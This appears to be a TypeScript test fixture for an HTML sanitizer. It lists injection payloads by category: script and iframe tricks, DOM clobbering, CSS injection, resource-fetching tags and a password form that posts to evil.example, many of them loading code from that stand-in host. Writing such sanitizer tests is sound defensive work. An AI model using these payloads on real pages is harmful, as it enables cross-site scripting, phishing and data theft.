/** What would change the page around a text, its styles, its forms or what it fetches. Tests only. */
import { combine } from './combine'

const PAGE_ELEMENTS = [
  '<base href="https://evil.example/">',
  '<base target=_top>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;javascript:hit()">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta http-equiv=set-cookie content="a=b">',
  '<meta charset=utf-7>',
  '<meta name=referrer content=unsafe-url>',
  '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script type=webbundle>{"source":"https://evil.example/"}</script>',
  '<script type=application/ld+json>{"@context":"x"}</script>',
  '<script nomodule>hit()</script>',
  '<script async src=//evil.example/x.js></script>',
  '<script type="text/javascript\u0000">hit()</script>',
  '<script/src=data:,hit()></script>',
  '<script\n>hit()</script\n>',
  '<scr\u0000ipt>hit()</scr\u0000ipt>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<html onclick=hit() class=x><head><body id=x>',
  '<title>hit</title><title></title><script>hit()</script>',
  '<portal src="https://evil.example/"></portal>',
  '<fencedframe src="https://evil.example/"></fencedframe>',
  '<frameset><frame src="javascript:hit()"></frameset>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=1 onerror=parent.hit()&gt;" src="https://youtu.be/abcdefghijk"></iframe>',
  '<iframe src="https://youtu.be/abcdefghijk" sandbox allow="camera *" name=x></iframe>',
  '<iframe csp="default-src *" credentialless src=//evil.example></iframe>',
  '<object data="data:text/html,<script>hit()</script>" type=text/html></object>',
  '<object classid="clsid:x"><param name=url value="javascript:hit()"></object>',
  '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
]

const RELATIONS = [
  'stylesheet',
  'prefetch',
  'preload',
  'modulepreload',
  'prerender',
  'dns-prefetch',
  'preconnect',
  'import',
  'icon',
  'manifest',
  'expect',
  'alternate stylesheet',
]

/** Names that a page's own scripts look up. */
const LOOKED_UP = [
  ...[
    'hit',
    'location',
    'document',
    'self',
    'top',
    'parent',
    'alert',
    'name',
    'next',
    '__next_f',
    '__NEXT_DATA__',
    'React',
    'getElementById',
  ],
  ...[
    'querySelector',
    'body',
    'head',
    'cookie',
    'forms',
    'attributes',
    'nodeName',
    'parentNode',
    'firstChild',
    'innerHTML',
    'content',
    'main',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'trustedTypes',
    'currentScript',
    'defaultView',
    'submit',
    'action',
    'length',
    'config',
  ],
]

const CLOBBERING: readonly ((name: string) => string)[] = [
  (name) => `<a id="${name}"></a><a id="${name}" name=x href="https://evil.example">x</a>`,
  (name) => `<form id="${name}"><input name="${name}"><output id=x></output></form>`,
  (name) => `<img name="${name}" src="/media/a.webp"><p id="${name}">x</p>`,
  (name) => `<iframe name="${name}" src="https://youtu.be/abcdefghijk"></iframe>`,
]

const STYLES = [
  ...[
    'background:url(https://evil.example/x)',
    'background:url("javascript:hit()")',
    'position:fixed;inset:0;z-index:9999',
  ],
  ...[
    'width:expression(hit())',
    '-moz-binding:url(//evil.example/x.xml#x)',
    'behavior:url(x.htc)',
    'color:red;background:image-set(url(//evil.example/x))',
  ],
  ...[
    'animation:x 1s',
    '--x:url(//evil.example/x)',
    'content:url(//evil.example/x)',
    'list-style:url(//evil.example/x)',
    'cursor:url(//evil.example/x),auto',
  ],
  ...[
    'color:rgb(230,0,0);}</style><img src=1 onerror=hit()>',
    'color:\\65 xpression(hit())',
    "font-family:'\"></p><img src=1 onerror=hit()>'",
    'display:none',
  ],
]

const STYLED: readonly ((style: string) => string)[] = [
  (style) => `<p style="${style.replaceAll('"', '&quot;')}">x</p>`,
  (style) => `<span style="color:#c00;${style.replaceAll('"', '&quot;')}" class="colour-leaf x">x</span>`,
  (style) => `<style>@import "//evil.example/x.css"; p{${style}}</style>`,
  (style) => `<svg><style>*{${style}}</style><rect style="${style.replaceAll('"', '&quot;')}"/></svg>`,
]

const FETCHING = [
  ...[
    '<img srcset="https://evil.example/a 1x" src=/media/a.webp>',
    '<picture><source srcset=https://evil.example/a><img src=/media/a.webp></picture>',
  ],
  ...[
    '<video src=/media/a.mp4 poster=https://evil.example/a></video>',
    '<video src=/media/a.mp4><track src=https://evil.example/a default></video>',
  ],
  ...[
    '<audio src=https://evil.example/a autoplay></audio>',
    '<input type=image src=https://evil.example/a>',
    '<svg><image href=https://evil.example/a /></svg>',
  ],
  ...[
    '<svg><use href="https://evil.example/a#x"/></svg>',
    '<svg><filter><feImage href=https://evil.example/a /></filter></svg>',
    '<img src=/media/a.webp longdesc=//evil.example>',
  ],
  ...[
    '<a href=/ ping=https://evil.example/>x</a>',
    '<table background=https://evil.example/a><tr><td>x</table>',
    '<img src=/media/a.webp crossorigin referrerpolicy=unsafe-url>',
  ],
  ...[
    '<img src=/media/a.webp fetchpriority=high loading=eager decoding=sync attributionsrc=//evil.example>',
    '<a href=/ download=x.exe>x</a>',
  ],
]

const FORMS = [
  ...[
    '<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>',
    '<button form=x formaction=javascript:hit()>x</button>',
  ],
  ...[
    '<input type=submit formaction=javascript:hit()>',
    '<button popovertarget=x>x</button><p popover id=x>y</p>',
    '<dialog open><form method=dialog>x</form></dialog>',
  ],
  ...[
    '<button commandfor=x command=show-modal>x</button><dialog id=x>y</dialog>',
    '<label for=x>y</label><input id=x>',
    '<fieldset form=x><legend>y</legend></fieldset>',
  ],
  ...[
    '<select><option><img src=1 onerror=hit()></select>',
    '<datalist id=x><option value=y></datalist>',
    '<output form=x name=y>z</output>',
    '<textarea name=x>y</textarea>',
  ],
  ...[
    '<form><form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=hit()>',
    '<form id=x></form><input form=x name=y autofocus onfocus=hit()>',
  ],
]

export const pages: Record<string, readonly string[]> = {
  'elements of a page': PAGE_ELEMENTS,
  'links of a page': combine(
    RELATIONS,
    ['https://evil.example/x', 'data:text/css,*{color:red}'],
    (rel, to) => `<link rel="${rel}" href="${to}" as=script>`,
  ),
  clobbering: combine(LOOKED_UP, CLOBBERING, (name, make) => make(name)),
  styles: combine(STYLES, STYLED, (style, make) => make(style)),
  fetching: FETCHING,
  forms: FORMS,
}
